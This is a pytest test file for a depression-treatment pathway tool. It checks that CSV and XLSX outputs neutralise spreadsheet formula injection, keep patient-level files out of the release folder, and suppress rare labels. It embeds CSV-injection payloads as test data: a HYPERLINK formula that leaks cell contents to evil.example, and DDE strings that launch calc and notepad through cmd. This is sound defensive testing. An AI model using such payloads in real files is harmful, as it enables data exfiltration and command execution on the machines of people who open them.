"""A whole `run` on a hostile extract: no table cell a spreadsheet would run, no formula in the XLSX,
the user's umask on every file, patient-level files apart from the release, a release data_quality.csv
that names no rare label (issue 14 items 3 and 4; docs/security.md)."""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from trdpath import api, layout
from trdpath.config import config_from_dict

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
STUDY = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the results")'
RARE = "@SUM(1+1)*cmd|' /C calc'!A0"  # an unmapped ethnicity on 3 patients: a label seen fewer than 8 times
COMMON = "Klingon"  # an unmapped ethnicity on 10 patients


def _extract(folder: Path) -> Path:
    folder.mkdir()
    ids = [f"P{i:02d}" for i in range(1, 14)] + ["=2+3", "-42"]
    ethnicity = [COMMON] * 10 + [RARE] * 3 + ["A", "A"]
    patients = ["patient_id,birth_date,sex,ethnicity,employment_status"]
    diagnoses = ["patient_id,code,date"]
    prescriptions = ["patient_id,drug,start_date,end_date,days_supply,daily_dose_mg"]
    for i, (pid, eth) in enumerate(zip(ids, ethnicity)):
        patients.append(f"{pid},1980-01-01,{'F' if i % 2 else 'M'},\"{eth}\",Employed")
        diagnoses.append(f"{pid},F32.1,2019-01-0{1 + i % 9}")
        prescriptions.append(f"{pid},Sertraline 50mg tablets,2019-02-01,2019-05-01,,50")
        prescriptions.append(f"{pid},\"=cmd|' /C notepad'!A1\",2019-02-01,2019-03-01,,10")
        if i % 3 == 0:  # a third switch to two more antidepressants: some TRD, some MDD
            prescriptions.append(f"{pid},citalopram,2019-06-01,2019-09-01,,20")
            prescriptions.append(f"{pid},mirtazapine,2019-10-01,2020-01-01,,30")
    for name, lines in (("patients", patients), ("diagnoses", diagnoses), ("prescriptions", prescriptions)):
        (folder / f"{name}.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def result(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    old = os.umask(0o022)
    try:
        out = base / "out"
        api.run(_extract(base / "data"), out, config=config_from_dict({"study": {"name": STUDY}}))
    finally:
        os.umask(old)
    return out


def _csv_cells(path: Path):
    with open(path, newline="", encoding="utf-8") as handle:
        for row in csv.reader(handle):
            yield from row


def _runnable(cell: str) -> bool:
    """What a spreadsheet would evaluate: text starting with = + - @ tab CR that is not a plain number."""
    if not cell.startswith(FORMULA_START):
        return False
    try:
        float(cell)
        return False
    except ValueError:
        return True


def test_no_csv_cell_would_run_in_a_spreadsheet(result):
    tables = sorted(result.rglob("*.csv"))
    names = {p.relative_to(result).as_posix() for p in tables}
    assert {"patients.csv", "data_quality.csv", "attrition.csv", "release/data_quality.csv",
            "release/attrition.csv", "release/tables/journeys.csv"} <= names
    for path in tables:
        bad = [cell for cell in _csv_cells(path) if _runnable(cell)]
        assert not bad, (path, bad)
    ids = [row[0] for row in csv.reader(open(result / "patients.csv", encoding="utf-8"))][1:]
    assert "'=2+3" in ids and "-42" in ids  # neutralised; a plain negative number left as it is
    raw = (result / "data_quality.csv").read_text(encoding="utf-8")
    assert "'=cmd|' /C notepad'!A1" in raw or "\"'=cmd|' /C notepad'!A1\"" in raw


def test_no_xlsx_cell_is_a_formula(result):
    book = openpyxl.load_workbook(layout.tables_dir(result) / layout.TABLES_XLSX)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    about = {row[0].value: row[1].value for row in book["about"].iter_rows(min_row=2)}
    assert about["study"] == "'" + STUDY
    assert not [c.value for c in cells if isinstance(c.value, str) and _runnable(c.value)]


def test_files_get_the_umask_mode(result):
    for path in [result, *result.rglob("*")]:
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode == (0o755 if path.is_dir() else 0o644), (path, oct(mode))


def test_patient_level_apart_from_release(result):
    top = {p.name for p in result.iterdir()}
    assert top == {"README.md", "patients.csv", "patients.parquet", "data_quality.csv", "attrition.csv",
                   "config.toml", "metadata.json", "pathway_steps.csv", "pathway_steps.parquet",
                   "assumption_sensitivity.csv", "release"}
    release = {p.name for p in layout.release_dir(result).iterdir()}
    assert release == {"README.md", "report.html", "report.docx", "tables", "data_quality.csv", "attrition.csv"}
    assert "must not leave the secure environment" in (result / "README.md").read_text()
    assert "may be\nsubmitted to the secure environment's output check" in (layout.release_dir(result) / "README.md").read_text()
    html = layout.report_html(result).read_text(encoding="utf-8")
    assert "May leave the secure environment (after its output check): the files in release/ only" in html


def test_release_data_quality_names_no_rare_label_and_rounds(result):
    raw = pd.read_csv(result / "data_quality.csv", dtype=str, keep_default_na=False)
    release = pd.read_csv(layout.release_dir(result) / "data_quality.csv", dtype=str, keep_default_na=False)
    ethnicity = raw[raw["column"] == "ethnicity"].set_index("value")["count"]
    assert ethnicity[COMMON] == "10" and ethnicity["'" + RARE] == "3"  # exact, patient-level
    published = release[release["column"] == "ethnicity"]
    assert RARE not in " ".join(release["value"]) and "'" + RARE not in " ".join(release["value"])
    # 10 rounded to the nearest 5 is 10; the 3 rare rows grouped, 3 < 8 shown as "<8"
    assert dict(zip(published["value"], published["count"])) == {
        COMMON: "10", "(values each seen fewer than 8 times)": "<8"}
    for count in release["count"]:
        assert count == "<8" or int(count) % 5 == 0
